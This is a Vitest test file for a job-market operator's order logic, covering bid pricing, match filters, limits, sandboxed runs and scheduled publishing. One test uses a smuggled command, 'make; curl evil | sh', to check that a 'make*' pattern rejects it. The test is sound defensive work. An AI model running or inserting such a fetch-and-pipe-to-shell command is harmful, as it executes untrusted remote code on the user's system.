import { describe, expect, it } from 'vitest';
import type { Refusal } from '../../../source/model/errors.ts';
import type { HeldEnvelope, NodeId, SeedId } from '../../../source/model/types.ts';
import type { Balance } from '../../../source/operator/balances.ts';
import { considerSeed } from '../../../source/operator/orders/consider.ts';
import { considerPublish } from '../../../source/operator/orders/consider-publish.ts';
import type { BidOrder, PublishOrder, RunOrder } from '../../../source/operator/orders/order.ts';
import type { OrdersView } from '../../../source/operator/orders/orders-view.ts';
import { bidOf, claimOf, START_S } from '../../support/fake-envelopes.ts';
import { MALLORY, PAULA, tradeOf, WALTER, WANDA } from '../../support/model-trade.ts';
import { BID, madeOf, own, RUN, viewOf } from './made-orders.ts';

describe('an order that bids', () => {
  const trade = tradeOf({ min_price: 5, reward: 40 });
  const { fold, seed } = trade;
  const made = (order: Partial<BidOrder>, view: Partial<OrdersView> = {}, ...said: HeldEnvelope[]) =>
    madeOf({ ...BID, ...order }, fold(...said), viewOf(WANDA, view));
  const priceOf = (price: BidOrder['price'], ...said: HeldEnvelope[]) => {
    const considered = considerSeed({ ...BID, price }, fold(...said), viewOf(WANDA));
    return considered.acts && considered.step.verb === 'bid' ? considered.step.input.price : considered;
  };

  it('bids on what matches, at its price', () => {
    const bid16 = bidOf(seed, MALLORY, { price: 16 });
    expect(priceOf({ rule: 'min' })).toBe(5);
    expect(priceOf({ rule: 'min_plus', add: 2 })).toBe(7);
    expect(priceOf({ rule: 'share_of_reward', share: 0.5 })).toBe(20);
    expect(priceOf({ rule: 'share_of_reward', share: 0.1 })).toBe(5);
    expect(priceOf({ rule: 'under_best', by: 3, floor: 6 }, bid16)).toBe(13);
    expect(priceOf({ rule: 'under_best', by: 11, floor: 6 }, bid16)).toMatchObject({ condition: 'floor' });
    expect(priceOf({ rule: 'under_best', by: 12, floor: 0 }, bid16)).toMatchObject({
      condition: 'min_price',
    });
    expect(priceOf({ rule: 'under_best', by: 3, floor: 6 })).toBe(40);
  });

  it('asks what is usual among those that we know, never less than its floor or the minimum', () => {
    const asks = (q: number, floor: number, prices: readonly number[] | undefined) => {
      const view = viewOf(WANDA, { pricesLike: () => prices });
      const made = considerSeed({ ...BID, price: { rule: 'quantile', q, floor } }, fold(), view);
      return made.acts && made.step.verb === 'bid' ? made.step.input.price : !made.acts && made.condition;
    };
    const paid = [4, 8, 8, 10, 12, 20, 30, 40];
    expect(asks(0.25, 3, paid)).toBe(8);
    expect(asks(0.5, 3, paid)).toBe(10);
    expect(asks(1, 3, paid)).toBe(40);
    expect(asks(0, 3, paid)).toBe(5);
    expect(asks(0.25, 9, paid)).toBe(9);
    expect(asks(0.5, 7, [])).toBe(7);
    expect(asks(0.5, 7, undefined)).toBe('prices');
  });

  it.each([
    ['command', { command: ['make *'] }],
    ['title', { title: ['nightly *'] }],
    ['publisher', { publisher: [MALLORY] }],
    ['min_price', { minPrice: { min: 6, max: 9 } }],
    ['reward', { reward: { min: 41, max: 99 } }],
    ['price', { price: { min: 0, max: 6 } }],
    ['timeout_ms', { timeoutMs: { min: 0, max: 1 } }],
    ['input_bytes', { fileSizes: { input_bytes: { min: 1, max: 9 } } }],
    ['output_files', { fileSizes: { output_files: { min: 1, max: 9 } } }],
    ['trades', { trades: { min: 1, max: 9 } }],
    ['hours', { hours: { from: 22 * 60, to: 6 * 60 } }],
    ['verified', { verified: false }],
  ] as const)('leaves alone what does not match by %s', (condition, match) => {
    expect(made({ match })).toBe(condition);
  });

  it('leaves what is unsigned alone unless it asks for it', () => {
    const signed = fold();
    const unsigned = { ...signed, held: { ...signed.held, verified: false } };
    expect(madeOf(BID, unsigned, viewOf(WANDA))).toBe('verified');
    expect(madeOf({ ...BID, match: { verified: false } }, unsigned, viewOf(WANDA))).toBe('bid');
  });

  it('bids once on a seed, and only while it is open, and never on an own one', () => {
    expect(made({}, {}, bidOf(seed, WANDA, { price: 6 }))).toBe('done');
    const sold = bidOf(seed, WALTER, { price: 9 });
    expect(made({}, {}, sold, claimOf(sold, PAULA))).toBe('status');
    expect(madeOf(BID, fold(), viewOf(PAULA))).toBe('seed');
  });

  it('a pattern of commands means just the commands that its author thought of', () => {
    const evil = tradeOf({ command: 'make; curl evil | sh' });
    expect(madeOf({ ...BID, match: { command: ['make*'] } }, evil.fold(), viewOf(WANDA))).toBe('command');
  });

  it('keeps its limits, each counted from what is signed', () => {
    const openBid = { openBids: 1, bidFor: (node: NodeId) => (node === PAULA ? 90 : 0) };
    expect(made({ limits: { ...BID.limits, openBids: 1 } }, own(openBid))).toBe('open_bids');
    expect(made({ limits: { ...BID.limits, perHour: 3 } }, own({ bidsOfLastHour: 3 }))).toBe('per_hour');
    expect(made({ limits: { ...BID.limits, inHand: 2 } }, own({ inHand: 1, ...openBid }))).toBe('in_hand');
    const outstanding = { ...BID.limits, outstanding: 100 };
    expect(made({ limits: outstanding }, own(openBid))).toBe('bid');
    const owes = (owed: number, received: number) => ({
      balance: () => ({ owed, received, inHand: 0, accepted: 1 }) as Balance,
    });
    expect(made({ limits: outstanding }, own({ ...openBid, ...owes(4, 0) }))).toBe('outstanding');
    // T5: what it paid and both signed is not owed any more; what it paid ahead gives it no credit.
    expect(made({ limits: outstanding }, own({ ...openBid, ...owes(40, 40) }))).not.toBe('outstanding');
    const nothing = { ...outstanding, outstanding: 0 };
    expect(made({ limits: nothing }, own({ ...openBid, ...owes(0, 900) }))).toBe('outstanding');
  });

  it('says what the market or the policy has against it', () => {
    const refusal: Refusal = { code: 'command-refused', facts: { by: 'policy', rule: 1, because: '' } };
    expect(considerSeed(BID, fold(), viewOf(WANDA, { refusal: () => refusal }))).toMatchObject({
      ...{ acts: false, condition: 'refused', refusal },
    });
  });
});

describe('an order that runs', () => {
  const { fold, seed, claim, result, forfeitS } = tradeOf();
  const made = (order: Partial<RunOrder>, view: Partial<OrdersView> = {}, ...said: HeldEnvelope[]) =>
    madeOf({ ...RUN, ...order }, fold(claim, ...said), viewOf(WALTER, view));

  it('runs what was awarded to us, at the level that it names, until its forfeit', () => {
    expect(considerSeed(RUN, fold(claim), viewOf(WALTER))).toMatchObject({
      step: { verb: 'run', input: { seed: seed.seed.id, sandbox: 'bwrap' } },
    });
    expect(madeOf(RUN, fold(claim), viewOf(WANDA))).toBe('seed');
    expect(made({}, { nowMs: forfeitS * 1000 })).toBe('status');
    expect(made({}, {}, result)).toBe('done');
  });

  it('runs a later award of a seed that it forfeited before', () => {
    const again = bidOf(seed, WALTER, { price: 4, created_at: START_S + 20 });
    const second = claimOf(again, PAULA, { created_at: forfeitS + 5, replaces: claim.claim.id });
    expect(made({}, { nowMs: (forfeitS + 10) * 1000 }, second)).toBe('run');
  });

  it('runs so many at once, and none twice', () => {
    expect(made({}, { running: new Set([seed.seed.id]) })).toBe('done');
    expect(made({}, { running: new Set(['x' as SeedId]) })).toBe('at_once');
    expect(made({ limits: { atOnce: 2 } }, { running: new Set(['x' as SeedId]) })).toBe('run');
  });

  it('leaves a run that was interrupted to a person, unless it says what becomes of it', () => {
    const kept = { interrupted: () => 'kept' as const };
    expect(made({}, kept)).toBe('interrupted');
    expect(considerSeed({ ...RUN, interrupted: 'send' }, fold(claim), viewOf(WALTER, kept))).toMatchObject({
      step: { input: { kept: true } },
    });
    expect(made({ interrupted: 'send' }, { interrupted: () => 'lost' })).toBe('interrupted');
    expect(considerSeed({ ...RUN, interrupted: 'run' }, fold(claim), viewOf(WALTER, kept))).toMatchObject({
      step: { input: { confirmed: true } },
    });
  });
});

describe('an order that publishes', () => {
  const NIGHTLY: PublishOrder = {
    name: 'nightly',
    kind: 'publish',
    template: 'nightly',
    schedule: '0 0 2 * * *',
  };
  const noon = new Date(2027, 0, 15, 12, 0, 0).getTime();
  const two = new Date(2027, 0, 15, 2, 0, 0).getTime();
  const made = (view: Partial<OrdersView>) => {
    const considered = considerPublish(NIGHTLY, viewOf(PAULA, { nowMs: noon, sinceMs: noon - 1, ...view }));
    return considered.acts ? considered.step.verb : considered.condition;
  };
  const last = (createdMs: number, isOpen = false) => ({ lastOf: () => ({ createdMs, isOpen }) });

  it('publishes once its time came since the last one, and makes up for a night that the node was away', () => {
    expect(made(last(two - 86_400_000))).toBe('publish');
    expect(made(last(two + 1000))).toBe('schedule');
  });

  it('waits for its first time where nothing was published yet', () => {
    expect(made({})).toBe('schedule');
    expect(made({ sinceMs: two - 1000 })).toBe('publish');
  });

  it('does not publish again while the last one is open, or its template cannot be read', () => {
    expect(made(last(two - 86_400_000, true))).toBe('done');
    expect(made({ template: () => ({ ok: false, why: 'none' }) })).toBe('template');
  });
});
